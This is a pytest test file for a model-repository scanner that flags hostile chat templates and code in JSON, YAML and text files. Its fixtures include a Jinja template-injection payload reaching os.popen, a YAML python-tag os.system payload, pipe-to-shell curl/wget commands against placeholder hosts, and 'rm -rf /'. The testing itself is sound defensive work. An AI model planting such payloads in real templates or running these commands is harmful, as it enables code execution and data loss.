"""JSON, YAML and text scanning: where chat templates hide, and what must stay quiet."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from weightgate import scan_path
from weightgate.scan import keras, text
from weightgate.scan.context import ScanContext
from weightgate.scan.findings import Finding, Severity
from weightgate.scan.settings import Limits, ScanSettings

EVIL = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
GOOD = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"


def run(scanner: str, data: bytes, path: str = "file", **limits: int) -> list[Finding]:
    findings: list[Finding] = []
    ctx = ScanContext(ScanSettings(limits=Limits(**limits)), path, findings)
    getattr(text, scanner)(ctx, memoryview(data))
    return findings


def rules(findings: list[Finding]) -> set[tuple[str, Severity]]:
    return {(f.rule, f.severity) for f in findings}


def worst(findings: list[Finding]) -> Severity | None:
    return max((f.severity for f in findings), default=None)


def dumps(obj: object) -> bytes:
    return json.dumps(obj, indent=2).encode()


# -- JSON -----------------------------------------------------------------------------


def test_tokenizer_config_templates() -> None:
    assert run("scan_json", dumps({"chat_template": GOOD, "bos_token": "<s>"})) == []
    findings = run("scan_json", dumps({"chat_template": EVIL}))
    assert ("template.dunder-access", Severity.CRITICAL) in rules(findings)
    assert "key 'chat_template'" in findings[0].message


def test_list_form_chat_template() -> None:
    config = {
        "chat_template": [{"name": "default", "template": GOOD}, {"name": "rag", "template": EVIL}]
    }
    findings = run("scan_json", dumps(config))
    assert worst(findings) == Severity.CRITICAL
    assert all("chat_template['rag']" in f.message for f in findings)


def test_duplicate_chat_template_keys_are_all_checked() -> None:
    raw = '{"chat_template": ' + json.dumps(EVIL) + ', "chat_template": ' + json.dumps(GOOD) + "}"
    assert worst(run("scan_json", raw.encode())) == Severity.CRITICAL


def test_other_keys_holding_templates() -> None:
    findings = run("scan_json", dumps({"custom_chat_template": EVIL, "nested": {"p": EVIL}}))
    assert worst(findings) == Severity.CRITICAL
    assert run("scan_json", dumps({"prompt": "Hello {{ name }}"})) == []


def test_unparsable_templates() -> None:
    broken = run("scan_json", dumps({"chat_template": "{{ unclosed"}))
    assert rules(broken) == {("template.parse-error", Severity.MEDIUM)}
    loose = run("scan_json", dumps({"description": "use {{ like this"}))
    assert rules(loose) == {("template.parse-error", Severity.INFO)}


def test_keras_config_is_handed_over(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[object] = []
    monkeypatch.setattr(keras, "scan_keras_config", lambda ctx, config: seen.append(config))
    keras2 = {"class_name": "Sequential", "config": {"layers": []}, "keras_version": "2.15"}
    keras3 = {"module": "keras", "class_name": "Functional", "registered_name": "Functional"}
    hf = {"architectures": ["BertModel"], "model_type": "bert"}
    for config in (keras2, keras3, hf):
        run("scan_json", dumps(config))
    assert seen == [keras2, keras3]


def test_invalid_json_is_text() -> None:
    assert run("scan_json", b"[PAD]\n[UNK]\n[CLS]\nhello\n") == []
    lines = b'{"a": 1}\n{"b": "' + EVIL.encode() + b'"}\n'
    assert worst(run("scan_json", lines)) == Severity.CRITICAL
    assert run("scan_json", b"\xff\xfe[not utf-8") == []


def test_json_edge_values() -> None:
    big = b'{"model_max_length": ' + b"9" * 5000 + b', "chat_template": "' + EVIL.encode() + b'"}'
    assert worst(run("scan_json", big)) == Severity.CRITICAL
    deep = b"[" * 100_000 + b"]" * 100_000
    assert run("scan_json", deep) == []


def test_json_too_large() -> None:
    findings = run("scan_json", dumps({"chat_template": GOOD}), max_json_bytes=10)
    assert rules(findings) == {("text.too-large", Severity.MEDIUM)}


# -- YAML and standalone templates ------------------------------------------------------


def test_yaml_chat_template() -> None:
    good = f"model_name: m\nchat_template: {json.dumps(GOOD)}\nparameters:\n  t: 0.7\n"
    assert run("scan_text", good.encode()) == []
    evil = f"# config\nchat_template: {json.dumps(EVIL)}\n"
    assert worst(run("scan_text", evil.encode())) == Severity.CRITICAL


def test_yaml_too_large_to_parse() -> None:
    padding = "".join(f"k{i}: v\n" for i in range(50))
    with_key = run(
        "scan_text", (f"chat_template: '{GOOD}'\n" + padding).encode(), max_template_bytes=200
    )
    assert rules(with_key) == {("template.too-large", Severity.MEDIUM)}
    without = run("scan_text", (f"prompt: '{GOOD}'\n" + padding).encode(), max_template_bytes=200)
    assert rules(without) == {("template.too-large", Severity.INFO)}


def test_yaml_aliases_stay_small() -> None:
    lines = ["a0: &a0 [" + json.dumps(EVIL) + "]"]
    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 30)]
    lines.append("chat_template: *a29")
    start = time.perf_counter()
    findings = run("scan_text", "\n".join(lines).encode())
    assert time.perf_counter() - start < 5
    assert worst(findings) == Severity.CRITICAL


def test_yaml_with_python_tags_is_not_constructed() -> None:
    payload = (
        "chat_template: !!python/object/apply:os.system ['touch /tmp/wg-pwned']\nx: '{{ y }}'\n"
    )
    findings = run("scan_text", payload.encode())
    assert not Path("/tmp/wg-pwned").exists()
    assert worst(findings) in (None, Severity.INFO)


def test_text_that_parses_as_yaml_without_templates_is_a_template() -> None:
    # YAML reads "{{ ... }}" after a key as a flow mapping; the template check still runs.
    source = "System: {{ cycler.__init__.__globals__ }}\n"
    assert worst(run("scan_text", source.encode())) == Severity.CRITICAL


@pytest.mark.parametrize(
    ("name", "severity"),
    [
        ("chat_template.jinja", Severity.MEDIUM),
        ("t.j2", Severity.MEDIUM),
        ("README.md", Severity.INFO),
    ],
)
def test_unparsable_text_template(name: str, severity: Severity) -> None:
    findings = run("scan_text", b"Use {% if %} here\n", path=f"repo/{name}")
    assert rules(findings) == {("template.parse-error", severity)}


def test_readme_mentioning_chat_templates_is_not_a_template() -> None:
    readme = b"Call tokenizer.apply_chat_template(messages).\n\n    {% for m in messages %}\n"
    findings = run("scan_text", readme, path="README.md")
    assert rules(findings) == {("template.parse-error", Severity.INFO)}


def test_plain_text_is_quiet() -> None:
    assert run("scan_text", b"Apache License\nVersion 2.0\n") == []
    assert run("scan_text", b"# Model card\n\nUse `model.eval()` and {#anchor} links.\n") == []


@pytest.mark.parametrize(
    ("name", "head", "severity"),
    [
        ("a.jinja", b"x", Severity.MEDIUM),
        ("data.csv", b"{{ x }}", Severity.MEDIUM),
        ("data.csv", b"a,b", Severity.INFO),
    ],
)
def test_text_too_large(name: str, head: bytes, severity: Severity) -> None:
    findings = run("scan_text", head + b"\n" * 100, path=name, max_json_bytes=50)
    assert rules(findings) == {("text.too-large", severity)}


def test_files_on_disk(tmp_path: Path) -> None:
    (tmp_path / "chat_template.jinja").write_text(
        "{%- for m in messages %}\n" + EVIL + "\n{% endfor %}"
    )
    (tmp_path / "tokenizer_config.json").write_text(json.dumps({"chat_template": GOOD}))
    (tmp_path / "vocab.txt").write_text("[PAD]\n[UNK]\nhello\n")
    report = scan_path(tmp_path)
    by_file = {r.path: worst(r.findings) for r in report.files}
    assert by_file == {
        "chat_template.jinja": Severity.CRITICAL,
        "tokenizer_config.json": None,
        "vocab.txt": None,
    }


# -- code-like strings --------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "import os; os.system('id')",
        "import subprocess",
        "from os import system",
        "os.popen('id').read()",
        "subprocess.call(['curl', 'x'])",
        "exec(open('x').read())",
        "eval('1+1')",
        "__import__('os')",
        "pickle.loads(blob)",
        "curl -fsSL https://x.example/install.sh | sudo bash",
        "wget -qO- http://x | sh",
    ],
)
def test_find_code(value: str) -> None:
    assert text.find_code(value) is not None


@pytest.mark.parametrize(
    "value",
    [
        "pt",
        "A small transformer for text classification",
        "https://huggingface.co/bert-base-uncased",
        "from transformers import AutoModel",
        "Data import from CSV; evaluation (eval) on GLUE",
        "call model.eval() first",
        "94.5%",
    ],
)
def test_find_code_is_conservative(value: str) -> None:
    assert text.find_code(value) is None


def test_find_suspicious() -> None:
    assert text.find_suspicious("<script>alert(1)</script>") is not None
    assert text.find_suspicious("rm -rf / && echo") is not None
    assert text.find_suspicious("wget http://bad.example/x.sh") is not None
    assert text.find_suspicious("see https://example.com") is None
